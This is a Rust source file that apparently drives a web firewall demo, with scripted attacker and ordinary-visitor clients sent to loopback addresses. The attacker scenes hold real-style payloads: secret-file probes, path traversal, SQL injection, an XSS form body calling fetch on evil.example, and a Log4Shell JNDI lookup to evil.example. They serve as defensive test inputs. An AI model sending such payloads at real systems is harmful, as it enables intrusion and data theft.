//! The demo's clients, their requests, and the expected results.

use std::fmt;
use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

/// One client and everything it does.
pub(crate) struct Scene {
    pub(crate) title: &'static str,
    pub(crate) role: Role,
    pub(crate) source: IpAddr,
    /// The headers of every request of this client.
    pub(crate) headers: &'static [(&'static str, &'static str)],
    pub(crate) calls: Vec<Call>,
}

/// What kind of client this is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Role {
    /// Sends attacks.
    Attacker,
    /// Uses the site as an ordinary person does.
    Visitor,
}

/// One request, or the same one many times over.
pub(crate) struct Call {
    pub(crate) method: &'static str,
    pub(crate) target: &'static str,
    pub(crate) headers: Vec<(&'static str, &'static str)>,
    pub(crate) body: Option<&'static str>,
    pub(crate) times: usize,
    /// How many of the requests an ordinary client may send too.
    pub(crate) allowed: usize,
    /// How long a person reads or types first.
    pub(crate) pause: Duration,
}

impl Call {
    const fn new(method: &'static str, target: &'static str, allowed: usize) -> Self {
        Self {
            method,
            target,
            headers: Vec::new(),
            body: None,
            times: 1,
            allowed,
            pause: Duration::ZERO,
        }
    }

    /// A request that should be refused.
    const fn bad(target: &'static str) -> Self {
        Self::new("GET", target, 0)
    }

    /// A request that should be served.
    const fn good(target: &'static str) -> Self {
        Self::new("GET", target, 1)
    }

    fn post(mut self, media_type: &'static str, body: &'static str) -> Self {
        self.method = "POST";
        self.headers.push(("Content-Type", media_type));
        self.body = Some(body);
        self
    }

    fn with(mut self, name: &'static str, value: &'static str) -> Self {
        self.headers.push((name, value));
        self
    }

    const fn after(mut self, pause: Duration) -> Self {
        self.pause = pause;
        self
    }
}

/// How many characters of a body are shown.
const SHOWN: usize = 60;

impl fmt::Display for Call {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", self.method, self.target)?;
        let telling = self
            .headers
            .iter()
            .filter(|(name, _)| *name != "Content-Type");
        for (name, value) in telling {
            write!(f, " [{name}: {value}]")?;
        }
        match self.body {
            Some(body) if self.allowed == 0 => {
                let cut: String = body.chars().take(SHOWN).collect();
                let more = if cut.len() < body.len() { "…" } else { "" };
                write!(f, " [{cut}{more}]")
            }
            _ => Ok(()),
        }
    }
}

/// The headers that Firefox 140 sends when somebody follows a link.
const BROWSER: &[(&str, &str)] = &[
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    ),
    (
        "Accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ),
    ("Accept-Language", "en-GB,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Connection", "keep-alive"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Sec-Fetch-Dest", "document"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-Site", "same-origin"),
    ("Sec-Fetch-User", "?1"),
];

/// A script that does not disguise itself.
const SCRIPT: &[(&str, &str)] = &[("User-Agent", "python-requests/2.32.3"), ("Accept", "*/*")];

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// All scenes, in order. Every client has an address of its own.
pub(crate) fn scenes() -> Vec<Scene> {
    vec![
        attack(
            "looks for exposed secrets, and is banned",
            vec![
                Call::bad("/.env"),
                Call::bad("/wp-login.php"),
                Call::bad("/products"),
                Call::bad("/products").with("X-Forwarded-For", "8.8.8.8"),
            ],
        ),
        attack(
            "hides the same file behind an encoding",
            vec![Call::bad("/%2e%65nv")],
        ),
        attack(
            "climbs out of a directory that is exempt",
            vec![Call::bad("/static/../.env")],
        ),
        attack(
            "climbs with an encoded slash",
            vec![Call::bad("/blog/..%2f.git/config")],
        ),
        attack(
            "works through a scanner's list",
            [
                "/phpmyadmin/index.php",
                "/.git/HEAD",
                "/backup.sql",
                "/actuator/env",
                "/cgi-bin/test.cgi",
                "/.aws/credentials",
                "/xmlrpc.php",
                "/server-status",
            ]
            .map(Call::bad)
            .into(),
        ),
        attack(
            "asks for the operator's keyword",
            vec![
                Call::bad("/search?q=1+UNION+SELECT+password+FROM+users"),
                Call::bad("/search?q=1%20union%2f**%2fselect%20null"),
            ],
        ),
        attack(
            "asks the database a question of its own",
            vec![Call::bad("/products?id=1'%20OR%20'1'='1'--%20")],
        ),
        attack(
            "leaves a script in a form",
            vec![Call::bad("/contact").post(
                FORM,
                "name=x&message=%3Cscript%3Efetch('//evil.example')%3C/script%3E",
            )],
        ),
        attack(
            "hides an injection in JSON",
            vec![Call::bad("/api/cart").post(
                JSON,
                r#"{"product":{"id":"1 UNION ALL SELECT user,password FROM users"}}"#,
            )],
        ),
        attack(
            "asks a logger to load a class",
            vec![Call::bad("/").with("X-Api-Version", "${jndi:ldap://evil.example/a}")],
        ),
        attack(
            "requests a file of the server",
            vec![Call::bad("/search?q=../../../../etc/passwd")],
        ),
        attack(
            "floods one page",
            vec![Call {
                times: 250,
                allowed: 100,
                ..Call::bad("/search?q=tea")
            }],
        ),
        visit(),
    ]
    .into_iter()
    .zip(11..)
    .map(|(scene, host)| Scene {
        source: IpAddr::V4(Ipv4Addr::new(127, 0, 0, host)),
        ..scene
    })
    .collect()
}

fn attack(title: &'static str, calls: Vec<Call>) -> Scene {
    Scene {
        title,
        role: Role::Attacker,
        source: IpAddr::V4(Ipv4Addr::LOCALHOST),
        headers: SCRIPT,
        calls,
    }
}

/// Requests that a firewall might mistake for attacks, and a form filled in at a human pace.
fn visit() -> Scene {
    let calls = vec![
        Call::good("/"),
        Call::good("/static/site.css"),
        Call::good("/static/site.js"),
        Call::good("/favicon.ico"),
        Call::good("/products"),
        Call::good("/products/7"),
        Call::good("/blog/php-tips"),
        Call::good("/seashells"),
        Call::good("/search?q=select+a+union+jack+mug"),
        Call::good("/search?q=caf%C3%A9%20%26%20tea%20for%20O%27Brien"),
        Call::good("/api/products"),
        Call::good("/api/cart").post(JSON, r##"{"product":"1","count":2,"colour":"#ff0000"}"##),
        Call::good("/login"),
        Call::good("/contact"),
        Call::good("/contact")
            .post(FORM, "name=Sinead+O%27Brien&message=Could+you+select+the+teas+for+us%3F+We+drop+in+on+table+4.")
            .after(Duration::from_millis(1500)),
        Call::good("/thanks"),
    ];
    Scene {
        title: "shops: pages, files, a form, the API",
        role: Role::Visitor,
        headers: BROWSER,
        ..attack("", calls)
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn every_client_has_an_address_of_its_own_and_there_is_a_visitor() {
        let scenes = scenes();
        let sources: HashSet<_> = scenes.iter().map(|scene| scene.source).collect();
        assert_eq!(sources.len(), scenes.len());
        assert!(sources.iter().all(|source| source.is_loopback()));
        let visitors = scenes.iter().filter(|scene| scene.role == Role::Visitor);
        assert_eq!(visitors.count(), 1);
    }
}
